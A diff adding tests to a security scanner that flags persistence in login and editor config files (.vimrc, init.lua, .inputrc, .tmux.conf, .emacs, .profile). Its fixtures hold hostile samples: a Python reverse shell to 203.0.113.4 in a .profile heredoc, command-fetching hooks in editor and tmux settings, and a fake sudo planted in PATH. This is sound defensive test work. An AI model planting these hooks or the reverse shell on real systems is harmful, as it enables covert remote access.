@@ -44,6 +44,28 @@ describe('login-scripts', () => {
     expect(shown(await rc('true\rcurl x\n'))).toEqual(['high /root/.bashrc']);
   });
 
+  it('finds commands in settings of editors, of the command line and of tmux, and lets people fetch plug-ins there', async () => {
+    const report = await scanRoot([loginScripts], {
+      '/root/.vimrc': `set ai\nautocmd BufRead * silent! call system('${fetched}')\n`, '/home/lin/.exrc': `:silent !${fetched}\n`, '/home/lin/.config/nvim/init.lua': `vim.fn.jobstart({"sh", "-c", "${fetched}"})\n`,
+      '/root/.inputrc': `"\\C-g": "\\C-a${fetched}\\C-m"\n`, '/home/lin/.tmux.conf': `run-shell -b '${fetched}'\n`, '/root/.screenrc': `screen -t x 3 sh -c "${fetched}"\n`, '/home/lin/.emacs': `(shell-command "${fetched}")\n`,
+    });
+    expect(shown(report)).toEqual(['high /home/lin/.config/nvim/init.lua', 'high /home/lin/.emacs', 'high /home/lin/.exrc', 'high /home/lin/.tmux.conf', 'high /root/.inputrc', 'high /root/.screenrc', 'high /root/.vimrc']);
+    expect(shown(await scanRoot([loginScripts], {
+      '/root/.vimrc': "silent !curl -fLo ~/.vim/autoload/plug.vim --create-dirs https://plugins.example/plug.vim\nautocmd BufWritePost *.go silent !gofmt -w %\nnnoremap r :!python3 %<CR>\n\" !sh /tmp/x\n",
+      '/root/.inputrc': '"\\e[A": history-search-backward\n"\\C-g": "git status\\C-m"\n', '/root/.tmux.conf': "set -g status-right '#(cut -d\" \" -f1 /proc/loadavg)'\nrun '~/.tmux/plugins/tpm/tpm'\n",
+    }))).toEqual([]);
+  });
+
+  it('follows ~ and $HOME to whose home it is, text handed over by <<, and a sudo in a folder of PATH', async () => {
+    const home = '/home/lin';
+    const rc = async (text: string, more: Record<string, string>) => shown(await scanRoot([loginScripts], { [`${home}/.profile`]: text, ...more }));
+    expect(await rc('. ~/.local/start\n', { [`${home}/.local/start`]: `${fetched}\n` })).toContain(`high ${home}/.profile`);
+    expect(await rc('export ENV=$HOME/.local/start\n. "$ENV"\n', { [`${home}/.local/start`]: `${fetched}\n` })).toContain(`high ${home}/.profile`);
+    expect(await rc("python3 - <<'E' &\nimport socket, pty, os\ns = socket.socket()\ns.connect(('203.0.113.4', 443))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\nE\n", {})).toContain(`critical ${home}/.profile`);
+    expect(await rc('PATH=$HOME/.tools:$PATH\n', { [`${home}/.tools/sudo`]: '#!/bin/sh\n' })).toEqual([`high ${home}/.profile`]);
+    expect(await rc('. ~/.cargo/env\nPATH=$HOME/.tools:$PATH\n', { [`${home}/.cargo/env`]: 'export PATH="$HOME/.cargo/bin:$PATH"\n', [`${home}/.tools/hx`]: 'x' })).toEqual([]);
+  });
+
   it('finds folders of others in front in PATH and history switched off', async () => {
     const report = await scanRoot([loginScripts], { '/etc/profile': 'PATH=.:$PATH\nexport PATH=/tmp/bin:$PATH\n', '/root/.bashrc': 'export HISTFILE=/dev/null\nHISTSIZE=0\n' });
     expect(report.findings.map(({ kind, level, path }) => `${kind} ${level} ${path}`)).toEqual(['weakness high /etc/profile', 'weakness medium /etc/profile', 'weakness low /root/.bashrc', 'weakness low /root/.bashrc']);
